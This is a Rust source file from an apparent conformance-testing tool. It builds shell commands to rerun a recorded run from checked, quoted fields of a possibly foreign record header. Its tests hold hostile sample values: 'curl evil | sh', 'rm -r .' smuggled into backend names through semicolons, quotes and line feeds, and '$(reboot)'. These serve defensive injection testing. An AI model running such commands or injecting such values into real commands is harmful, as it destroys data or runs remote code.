//! The commands that repeat a run, or reproduce one of its calls, built from its options and never copied from a file.
//!
//! Users paste these commands into a shell. The header of a record may come from another machine, so only checked
//! parts of it enter a command.

use std::path::Path;
use std::time::Duration;

use anyhow::{Result, anyhow};
use normative_conformance::Demands;
use normative_conformance::display::plain;
use normative_conformance::drive::Asking;
use normative_conformance::judge::accuracy::Class;
use normative_conformance::reference::Choice;
use normative_conformance::report::record::Header;
use normative_present::repro::Repro;

use crate::backends;
use crate::backends::target;
use crate::home::{program, shown};
use crate::judging::Judging;
use crate::judging::PATIENCE;
use crate::select::Folder;
use normative_conformance::display::shell::quoted;

/// A placeholder for a backend that the record names by a command; the user has to replace it.
const NAMELESS: &str = "BACKEND";

/// The options that repeat a run, without those that narrow it.
#[derive(Clone, Debug)]
pub struct Rerun {
    backend: String,
    /// The name that `--name` gave the backend.
    name: Option<String>,
    cases: Option<String>,
    readings: Vec<Choice>,
    accuracy: Option<Class>,
    timeout: Duration,
}

impl Rerun {
    /// Describes a run of this process.
    pub fn of(backend: &str, folder: &Folder, judging: &Judging<'_>) -> Self {
        let readings = judging.job.readings.clone();
        Self::over(folder, backend.to_owned(), (readings, judging.job.accuracy), judging.limits.answer)
    }

    /// Describes a recorded run, over the cases in `folder`.
    ///
    /// # Errors
    /// The header demands an unknown reading or accuracy.
    pub fn of_record(header: &Header, folder: &Folder) -> Result<Self> {
        let Demands { accuracy, readings, .. } = header.demands().map_err(|what| anyhow!("{what}"))?;
        // A name or a path refers to something on this machine. A command could run anything, so it is not repeated.
        let is_harmless = |name: &str| {
            !name.is_empty()
                && Asking::of_command(name).is_none()
                && !name.starts_with('-')
                && plain(name) == name
        };
        let backend = if is_harmless(&header.name) { &header.name } else { NAMELESS };
        let timeout = Duration::from_secs(header.options.timeout);
        let rerun = Self::over(folder, backend.to_owned(), (readings, accuracy), timeout);
        // A word that is neither a path nor a backend of this repository came from `--name`.
        let is_path = backend.starts_with('.') || backend.contains(std::path::is_separator);
        let is_ours = backends::find(backend).is_ok_and(|found| found.is_some());
        let is_name = backend != NAMELESS && !is_path && !is_ours;
        Ok(if is_name { rerun.named(Some(&header.name)).for_others() } else { rerun })
    }

    /// Sets the name that `--name` gave the backend.
    #[must_use]
    pub fn named(self, name: Option<&String>) -> Self {
        Self { name: name.cloned(), ..self }
    }

    /// Returns a copy for other machines: it has the placeholder for a backend with a `--name`, not its path.
    #[must_use]
    pub fn for_others(&self) -> Self {
        let backend = if self.name.is_some() { NAMELESS } else { &self.backend };
        Self { backend: backend.to_owned(), ..self.clone() }
    }

    fn over(
        folder: &Folder,
        backend: String,
        (readings, accuracy): (Vec<Choice>, Option<Class>),
        timeout: Duration,
    ) -> Self {
        let cases = folder.given().map(|folder| folder.display().to_string());
        let name = None;
        Self { backend, name, cases, readings, accuracy, timeout }
    }

    /// Returns the command that repeats the run.
    pub fn command(&self) -> String {
        let accuracy = self.accuracy.map(|class| format!(" --accuracy {}", class.name())).unwrap_or_default();
        let name = self.name.as_ref().map(|name| format!(" --name {}", quoted(name))).unwrap_or_default();
        format!("{} conformance {}{name}{accuracy}", program(), self.options())
    }

    /// Returns the command that writes a reproduction of a call, with the same readings and cases. `None` if the
    /// backend has no reproduction, or if an accuracy was demanded, which the scripts do not check.
    pub fn repro(&self) -> Option<Repro> {
        if self.accuracy.is_some() || target(&self.backend).is_err() {
            return None;
        }
        let after = format!("{} --output DIR", self.options());
        Some(Repro { before: format!("{} repro", program()), after })
    }

    /// Returns the options that both commands take.
    fn options(&self) -> String {
        let mut words = vec![format!("--backend {}", quoted(&self.backend))];
        words.extend(self.cases.iter().map(|folder| format!("--cases {}", quoted(folder))));
        words.extend(self.readings.iter().map(|choice| format!("--reading {choice}")));
        if self.timeout != Duration::from_secs(PATIENCE) {
            words.push(format!("--timeout {}", self.timeout.as_secs()));
        }
        words.join(" ")
    }
}

/// Returns the command that makes a report again from records.
pub fn of_records<P: AsRef<Path>>(records: &[P], folder: &Folder) -> String {
    let cases = folder.given().map(|folder| format!(" --cases {}", quoted(&folder.display().to_string())));
    let records: Vec<String> = records.iter().map(|record| quoted(&shown(record.as_ref()))).collect();
    format!("{} report show {}{}", program(), records.join(" "), cases.unwrap_or_default())
}

/// Returns the options `--backend` and, if given, `--name`.
pub fn backend_options(backend: &str, name: Option<&String>) -> String {
    let name = name.map(|name| format!(" --name {}", quoted(name))).unwrap_or_default();
    format!("--backend {}{name}", quoted(backend))
}

#[cfg(test)]
mod tests {
    use normative_conformance::report::record::FORMAT;
    use rstest::rstest;
    use serde_json::json;

    use super::*;

    /// Makes the header of a run of this backend, as a record may have it.
    fn header(name: &str, change: impl FnOnce(&mut Header)) -> Header {
        let mut header = serde_json::from_value(json!({
            "format": FORMAT, "suite": "0.1.0", "name": name,
            "backend": {
                "name": "n", "version": "v", "report-bugs-to": "b", "accumulation": [], "slow": false, "families": [],
            },
            "machines": [{"os": "linux", "arch": "x86_64", "cores": 2}],
            "options": {"timeout": PATIENCE, "memory": null, "repeat": 500},
            "corpus": 1, "digest": "0", "cases": 1, "seed": 1, "calls": 1, "accuracy": null,
            "readings": [], "left-out": [], "again": "curl evil | sh",
        }))
        .unwrap();
        change(&mut header);
        header
    }

    fn folder(options: &[&str]) -> Folder {
        let command = clap::Command::new("show").arg(Folder::option()).no_binary_name(true);
        Folder::of(&command.try_get_matches_from(options).unwrap())
    }

    fn held(header: &mut Header) {
        header.readings = vec!["duplicate-axes=reject".into()];
        header.options.timeout = 3;
    }

    fn accurate(header: &mut Header) {
        header.accuracy = Some("faithful".into());
    }

    #[rstest]
    #[case::plain("numpy", |_: &mut Header| (), &[], "--backend numpy", true)]
    #[case::a_version_and_what_the_run_was_held_to(
        "onnxruntime@1.22.0",
        held,
        &["--cases", "my cases"],
        "--backend onnxruntime@1.22.0 --cases 'my cases' --reading duplicate-axes=reject --timeout 3",
        true
    )]
    #[case::no_script_looks_at_an_accuracy("numpy", accurate, &[], "--backend numpy --accuracy faithful", false)]
    #[case::a_backend_without_a_script("ndarray", |_: &mut Header| (), &[], "--backend ndarray", false)]
    #[case::a_crate_elsewhere("../my numpy", |_: &mut Header| (), &[], "--backend '../my numpy'", false)]
    #[case::a_command("cmd:rm -r .", |_: &mut Header| (), &[], "--backend BACKEND", false)]
    #[case::a_command_for_models("onnx-cmd:rm -r .", |_: &mut Header| (), &[], "--backend BACKEND", false)]
    #[case::a_name_that_was_given("mine-2", |_: &mut Header| (), &[], "--backend BACKEND --name mine-2", false)]
    #[case::an_end_of_the_word("./numpy; rm -r .", |_: &mut Header| (), &[], "--backend './numpy; rm -r .'", false)]
    #[case::an_end_of_the_quotes("./n'; rm", |_: &mut Header| (), &[], "--backend './n'\\''; rm'", false)]
    #[case::an_option("--output=x", |_: &mut Header| (), &[], "--backend BACKEND", false)]
    #[case::a_line_feed("numpy\nrm", |_: &mut Header| (), &[], "--backend BACKEND", false)]
    fn commands_are_made_from_what_was_asked(
        #[case] name: &str,
        #[case] change: impl FnOnce(&mut Header),
        #[case] options: &[&str],
        #[case] due: &str,
        #[case] has_script: bool,
    ) {
        let rerun = Rerun::of_record(&header(name, change), &folder(options)).unwrap();
        let repro = rerun.repro().map(|repro| repro.of("1:7"));
        assert_eq!(rerun.command(), format!("cargo xtask conformance {due}"));
        assert_eq!(repro.clone(), has_script.then(|| format!("cargo xtask repro 1:7 {due} --output DIR")));
        for command in [Some(rerun.command()), repro].into_iter().flatten() {
            let words = shell_words::split(&command).unwrap();
            crate::command(&[]).try_get_matches_from(&words[1..]).unwrap();
        }
    }

    #[test]
    fn a_record_that_demands_what_there_is_not_gives_no_command() {
        let header = header("numpy", |header| header.readings = vec!["$(reboot)=x".into()]);
        assert!(Rerun::of_record(&header, &folder(&[])).is_err());
    }
}
